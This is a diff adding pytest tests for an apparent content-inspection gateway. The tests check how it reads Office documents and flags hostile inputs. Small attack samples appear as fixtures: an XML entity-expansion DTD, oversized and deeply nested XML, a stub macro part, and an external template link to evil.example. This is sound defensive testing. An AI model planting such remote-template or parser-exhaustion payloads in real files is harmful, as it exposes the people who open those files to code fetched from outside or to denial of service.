@@ -1,0 +1,229 @@
+"""The readers of Office documents: hostile-inputs catalogue D01-D04, E11, E12."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+
+import pytest
+
+from gateway.content import ooxml_text
+from gateway.levels import Level
+from gateway.protection import ProtectionState
+from gateway.verdict import LeafState, Zone
+from tests.content_mail import CORPUS, attached, leaf, sample, text, zipped
+
+TYPES = b'<?xml version="1.0"?><Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'  # noqa: E501
+
+
+def document(*parts: tuple[str, bytes]) -> bytes:
+    """A DOCX with *parts* beside its list of types."""
+    return zipped(("[Content_Types].xml", TYPES), *parts)
+
+
+def body(inner: str) -> bytes:
+    """A main part with *inner* in its body."""
+    return f'<?xml version="1.0"?><w:document xmlns:w="w" xmlns:v="v"><w:body>{inner}</w:body></w:document>'.encode()
+
+
+def test_all_places_of_a_document() -> None:
+    found = sample("note.docx")
+    words = text(found)
+    for word in (
+        "title-word", "footer-word", "split-word", "hidden-word", "seen-together", "cell-one", "box-word", "alt-word", "watermark-word",
+        "comment-word",
+    ):  # fmt: skip
+        assert word in words
+    assert leaf(found).state is LeafState.INSPECTED
+    assert leaf(found).media_type.endswith("wordprocessingml.document")
+    assert any(one.level is Level.CONFIDENTIAL and one.zone is Zone.PAGE_HEADER for one in found.findings)
+
+
+def test_a_workbook() -> None:
+    found = sample("table.xlsx")
+    assert "cell-word" in text(found)
+    assert "गोपनीय" in text(found)
+    assert leaf(found).media_type.endswith("spreadsheetml.sheet")
+
+
+def test_a_presentation() -> None:
+    found = sample("slides.pptx")
+    assert "slide-word" in text(found)
+    assert leaf(found).state is LeafState.INSPECTED
+
+
+def test_pictures_are_leaves() -> None:
+    picture = (CORPUS / "p.png").read_bytes()
+    found = attached(document(("word/document.xml", body("<w:p/>")), ("word/media/image1.png", picture)), "a.docx")
+    assert leaf(found, "word/media/image1.png").state is LeafState.UNINSPECTABLE
+
+
+def test_sheet_headers_are_page_headers() -> None:
+    part = ooxml_text.read(
+        "xl/worksheets/sheet1.xml",
+        b'<worksheet><headerFooter><oddHeader>&amp;C&amp;"Arial,Bold"&amp;12SECRET</oddHeader></headerFooter></worksheet>',
+    )
+    assert [(one.text.strip(), one.zone) for one in part.segments] == [("SECRET", Zone.PAGE_HEADER)]
+
+
+def test_numbers_of_cells_are_not_text_but_strings_are() -> None:
+    part = ooxml_text.read(
+        "xl/worksheets/sheet1.xml",
+        b'<s><row><c r="A1"><v>42</v></c><c t="str"><v>told</v></c><c t="inlineStr"><is><t>in</t></is></c></row></s>',
+    )
+    assert [one.text.split() for one in part.segments] == [["told", "in"]]
+
+
+def test_a_text_box_does_not_split_its_paragraph() -> None:
+    inner = "<w:p><w:r><w:t>CONFI</w:t></w:r><w:r><w:pict><v:textbox><w:txbxContent><w:p><w:r><w:t>box</w:t></w:r></w:p></w:txbxContent></v:textbox></w:pict></w:r><w:r><w:t>DENTIAL</w:t></w:r></w:p>"  # noqa: E501
+    found = attached(document(("word/document.xml", body(inner))), "a.docx")
+    assert "CONFIDENTIAL" in text(found)
+    assert any(one.level is Level.CONFIDENTIAL for one in found.findings)
+
+
+@pytest.mark.parametrize(
+    "cut", ["<w:r><w:rPr><w:vanish/></w:rPr><w:t>xx</w:t></w:r>", "<w:del><w:r><w:delText>xx</w:delText></w:r></w:del>"]
+)
+def test_hidden_and_deleted_text_does_not_split_words(cut: str) -> None:
+    inner = f"<w:p><w:r><w:t>SEC</w:t></w:r>{cut}<w:r><w:t>RET</w:t></w:r></w:p>"
+    words = text(attached(document(("word/document.xml", body(inner))), "a.docx"))
+    assert "SECRET" in words
+    assert "xx" in words
+
+
+def test_labels_in_custom_properties() -> None:
+    custom = b'<?xml version="1.0"?><Properties xmlns:vt="vt"><property name="MSIP_Label_2096f6a2-d2f7-48be-b329-b73aaa526e5d_Name"><vt:lpwstr>Secret</vt:lpwstr></property></Properties>'  # noqa: E501
+    found = attached(document(("docProps/custom.xml", custom)), "a.docx")
+    assert any(one.level is Level.SECRET for one in found.findings)
+
+
+def test_D01_a_document_type_definition_is_refused() -> None:
+    bomb = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c"><!ENTITY d "&b;&b;">]><w:document xmlns:w="w"><w:t>&d;</w:t></w:document>'
+    found = leaf(attached(document(("word/document.xml", bomb)), "dtd.docx"))
+    assert found.state is LeafState.SUSPECT
+    assert "type definition" in found.reason
+
+
+def test_D01_deep_xml() -> None:
+    found = leaf(attached(document(("word/document.xml", b"<a>" * 100_000)), "deep.docx"))
+    assert found.state is LeafState.SUSPECT
+    assert "deeper" in found.reason
+
+
+def test_D01_too_much_xml() -> None:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as file:
+        file.writestr("[Content_Types].xml", TYPES)
+        for number in range(3):
+            file.writestr(f"word/styles{number}.xml", b"<a>" + b'<b c="d"/>' * 2_500_000 + b"</a>")
+    found = leaf(attached(out.getvalue(), "large.docx"))
+    assert found.state is LeafState.SUSPECT
+
+
+@pytest.mark.parametrize("part", [b"<w:document", b"<w:document></w:body>", b'<?xml version="1.0" encoding="x"?><a/>'])
+def test_broken_xml_is_suspect(part: bytes) -> None:
+    assert leaf(attached(document(("word/document.xml", part)), "broken.docx")).state is LeafState.SUSPECT
+
+
+def test_D02_parts_loaded_from_outside_are_told() -> None:
+    rels = b'<Relationships><Relationship Id="r" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'  # noqa: E501
+    found = leaf(attached(document(("word/_rels/settings.xml.rels", rels)), "template.docx"))
+    assert "outside" in found.reason
+
+
+def test_D03_macros_are_suspect() -> None:
+    found = attached(document(("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)), "macro.docx")
+    assert leaf(found, "word/vbaProject.bin").state is LeafState.SUSPECT
+
+
+@pytest.mark.filterwarnings("ignore:Duplicate name")
+def test_D04_a_part_twice() -> None:
+    found = leaf(attached(document(("word/document.xml", body("")), ("word/document.xml", body("<w:p/>"))), "twice.docx"))
+    assert found.state is LeafState.SUSPECT
+    assert "ambiguous" in found.reason
+
+
+def test_text_in_a_part_that_is_named_like_styles() -> None:
+    found = attached(document(("word/styles.xml", body("<w:p><w:r><w:t>TOP SECRET</w:t></w:r></w:p>"))), "styles.docx")
+    assert any(one.level is Level.TOP_SECRET for one in found.findings)
+
+
+@pytest.mark.parametrize(
+    "data",
+    [
+        b"<a><b>text</b></a>", b"<a><![CDATA[text]]></a>", b"<a/>text", '<?xml version="1.0"?><a>शब्द</a>'.encode(),
+        '<?xml version="1.0" encoding="utf-16"?><a>text</a>'.encode("utf-16"), b'<?xml version="1.0" encoding="cp037"?><a/>',
+        b'<a><v:textpath string="SECRET"/></a>', b'<a><w:lvlText w:val="SECRET"/></a>', b"<a>\n  t\n</a>", b"<!DOCTYPE a><a/>",
+    ],
+)  # fmt: skip
+def test_no_part_that_speaks_is_called_silent(data: bytes) -> None:
+    assert not ooxml_text.is_silent(data)
+
+
+def test_a_style_part_is_silent() -> None:
+    with zipfile.ZipFile(CORPUS / "note.docx") as file:
+        assert ooxml_text.is_silent(file.read("word/styles.xml"))
+        assert not ooxml_text.is_silent(file.read("word/document.xml"))
+
+
+def test_E22_aes256_is_proved() -> None:
+    found = leaf(sample("office-aes256.docx"))
+    assert found.state is LeafState.OPAQUE
+    assert (found.protection.state, found.protection.scheme, found.protection.bits) == (ProtectionState.STRONG, "ooxml", 256)
+
+
+@pytest.mark.parametrize(("name", "word"), [("office-velvet.xlsx", "cell-word"), ("office-empty.docx", "split-word")])
+def test_E11_the_default_password_is_no_protection(name: str, word: str) -> None:
+    found = sample(name)
+    assert leaf(found).protection.state is ProtectionState.NONE
+    assert leaf(found, "document").state is LeafState.INSPECTED
+    assert word in text(found)
+
+
+def package(data: bytes) -> tuple[int, int]:
+    """Where the encrypted octets of the fixture lie: the longest stretch after the first sectors."""
+    import olefile
+
+    with olefile.OleFileIO(io.BytesIO(data)) as ole:
+        payload = ole.openstream("EncryptedPackage").read()
+    return data.index(payload[:512]), len(payload)
+
+
+def test_E11_a_fake_package_that_is_a_zip() -> None:
+    data = (CORPUS / "office-aes256.docx").read_bytes()
+    at, _ = package(data)
+    fake = data[: at + 8] + b"PK\x03\x04" + data[at + 12 :]
+    found = leaf(attached(fake, "fake.docx"))
+    assert found.state is LeafState.SUSPECT
+    assert found.protection.state is ProtectionState.UNVERIFIABLE
+
+
+def test_E11_a_fake_package_of_plain_text() -> None:
+    data = (CORPUS / "office-aes256.docx").read_bytes()
+    at, _ = package(data)
+    plain = b"the words of a secret note " * 2000
+    fake = data[: at + 8] + plain[: len(data) - at - 8]
+    found = leaf(attached(fake[: len(data)], "fake.docx"))
+    assert found.state is LeafState.SUSPECT
+    assert found.protection.state is not ProtectionState.STRONG
+
+
+def test_E12_keys_below_256_bits_are_weak() -> None:
+    data = (CORPUS / "office-aes256.docx").read_bytes().replace(b'keyBits="256"', b'keyBits="128"')
+    found = leaf(attached(data, "weak.docx"))
+    assert found.state is LeafState.SUSPECT
+    assert found.protection.state is ProtectionState.WEAK
+
+
+def test_E12_sheet_protection_is_no_encryption() -> None:
+    sheet = b'<worksheet><sheetProtection password="CC1A" sheet="1"/><sheetData><row><c t="inlineStr"><is><t>open-word</t></is></c></row></sheetData></worksheet>'  # noqa: E501
+    found = attached(document(("xl/worksheets/sheet1.xml", sheet)), "protected.xlsx")
+    assert leaf(found).protection.state is ProtectionState.NONE
+    assert "open-word" in text(found)
+
+
+@pytest.mark.parametrize("name", ["note.doc", "note.odt", "note.rtf"])
+def test_formats_without_a_reader_are_suspect(name: str) -> None:
+    found = leaf(sample(name))
+    assert found.state is LeafState.SUSPECT
+    assert "no reader" in found.reason
